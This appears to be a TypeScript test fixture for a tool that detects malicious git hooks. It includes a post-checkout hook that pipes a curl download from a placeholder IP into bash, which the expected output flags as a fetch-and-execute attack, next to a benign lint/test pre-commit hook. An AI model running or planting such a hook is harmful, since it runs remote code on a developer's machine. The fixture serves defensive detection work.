import { type Pair, script } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/home/ann/src/app/.git/hooks/post-checkout': script('curl -s http://203.0.113.6/p | bash'),
    '/home/ann/src/app/.git/hooks/pre-commit': script('npm run lint && npm test'),
  },
  blamed: [
    {
      path: '/home/ann/src/app/.git/hooks/post-checkout',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546',
    },
  ],
  passed: ['pre-commit'],
};
